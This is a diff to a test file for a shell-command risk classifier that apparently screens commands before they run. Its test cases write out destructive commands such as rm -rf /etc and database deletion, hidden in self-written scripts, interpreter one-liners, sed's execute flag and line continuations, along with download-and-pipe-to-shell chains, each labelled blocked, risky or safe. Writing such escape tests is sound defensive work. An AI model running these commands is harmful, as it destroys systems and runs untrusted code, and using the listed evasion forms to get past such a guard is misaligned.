@@ -608,7 +608,7 @@ def test_second_red_team_escapes(shell: str, command: str, level: Level) -> None
         ("bash", "echo 'rm -rf /etc' > x.sh; bash < x.sh", B),
         ("bash", "echo 'rm -rf /etc' > x.sh; bash -o errexit x.sh", B),
         ("bash", "printf 'rm -rf %s\\n' /etc > x.sh; sh x.sh", B),
-        ("bash", "echo 'bash x.sh' > x.sh; bash x.sh", L),  # runs itself: read once
+        ("bash", "echo 'bash x.sh' > x.sh; bash x.sh", R),  # runs itself: read once, endless
         ("bash", 'perl -e \'system("rm", "-rf", "/etc")\'', B),
         ("bash", 'python3 -c \'import os; os.execvp("rm", ["rm", "-rf", "/etc"])\'', B),
         ("bash", "docker compose exec db rm -rf /var/lib/mysql", B),
@@ -650,9 +650,12 @@ def test_self_running_scripts_and_doubling_variables_stay_bounded() -> None:
     # a script that runs itself twelve times fanned out exponentially: it is read once
     fan = parse("echo '" + "bash x.sh;" * 12 + "' > x.sh; bash x.sh", "bash")
     assert len(fan.invocations) < 30 and not fan.too_deep
-    # nested parses are capped for the whole command, however they branch
-    assert not parse("; ".join(["bash -c 'ls'"] * 10), "bash").too_deep
-    assert parse("; ".join(["bash -c 'ls'"] * (MAX_NESTED + 1)), "bash").too_deep
+    # nested parses are capped per top-level statement, however they branch: what is left
+    # unread makes the statement RISKY, not BLOCKED; a long script of plain lines is fine
+    group = parse("{ " + "; ".join(["bash -c 'ls'"] * (MAX_NESTED + 1)) + "; }", "bash")
+    assert group.undecodable and not group.too_deep
+    long_script = "\n".join(f"ssh host{i} 'uptime'" for i in range(MAX_NESTED + 50))
+    assert assess(long_script, "bash").level == S
     # set X=%X%%X% doubles a value per line: cmd's line limit bounds it
     doubling = _Cmd("\n".join(["set X=ab", *["set X=%X%%X%"] * 30, "echo %X%"]))
     doubling.run()
@@ -687,7 +690,7 @@ def test_corpus_regressions(shell: str, command: str, level: Level) -> None:
         ("cmd", "doskey ls=dir $*", S),
         ("cmd", "echo rd /s /q C:\\Windows > x.bat & call x.bat", B),
         ("cmd", "echo rd /s /q C:\\Windows > x.bat && x.bat", B),
-        ("cmd", "echo call x.bat > x.bat & x.bat", L),  # calls itself: read once
+        ("cmd", "echo call x.bat > x.bat & x.bat", L),  # calls itself: read once (cmd: no flag)
         ("powershell", "Set-Content x.ps1 'Remove-Item C:\\Windows -Recurse -Force'; .\\x.ps1", B),
         (
             "powershell",
@@ -698,4 +701,35 @@ def test_corpus_regressions(shell: str, command: str, level: Level) -> None:
     ],
 )
 def test_aliases_and_written_scripts(shell: str, command: str, level: Level) -> None:
+    assert assess(command, shell).level == level
+
+
+@pytest.mark.parametrize(
+    "shell,command,level",
+    [  # second review of the escape fixes
+        ("bash", "a[99999999999]=x; echo hi", S),  # a sparse index is not allocated
+        ("bash", "echo \"echo 'rm -rf /etc' > x.sh; bash x.sh\" > x.sh; bash x.sh", B),
+        ("bash", 'cmd+="rm -rf /etc"; $cmd', B),  # += on an unset variable
+        ("bash", "printf '%s\\n' 'rm -rf ./build' 'rm -rf /etc' > x.sh; sh x.sh", B),
+        ("cmd", "curl -o a.bat https://x/a.bat & type a.bat | cmd", R),  # piped into cmd: runs
+        ("cmd", "certutil -urlcache -f https://x/a.bat a.bat & type a.bat | cmd", B),
+        (
+            "powershell",
+            "Invoke-WebRequest https://x/a.ps1 -OutFile a.ps1; Get-Content a.ps1 | powershell -",
+            R,
+        ),
+        ("bash", "node -e 'require(\"child_process\").execSync(`rm -rf /etc`)'", B),
+        ("bash", "sed -n '/errors in the end/p' app.log", S),  # an `s` in an address
+        ("bash", "sed '1~2e rm -rf /etc' f", B),
+        ("bash", "$DIR/cleanup.sh kill 1234", S),  # $X/path never expands to nothing
+        ("powershell", "$p=(@{Path='C:\\Windows';Recurse=$true}); Remove-Item @p", B),
+        ("cmd", "rd /s /q ^\nC:\\Windows", B),  # ^ continues the line
+        ("bash", "curl -fsSL https://x/go.tgz -o go.tgz && tar -xzf go.tgz -C ./vendor", L),
+        ("bash", "docker compose -f prod.yml exec db rm -rf /var/lib/mysql", B),
+        ("bash", "time(rm -rf /etc)", B),
+        ("bash", "case x in x) time (rm -rf /etc);; esac", B),
+        ("bash", "python3.11 -c 'import shutil; shutil.rmtree(\"/etc\")'", B),
+    ],
+)
+def test_second_escape_fix_review(shell: str, command: str, level: Level) -> None:
     assert assess(command, shell).level == level
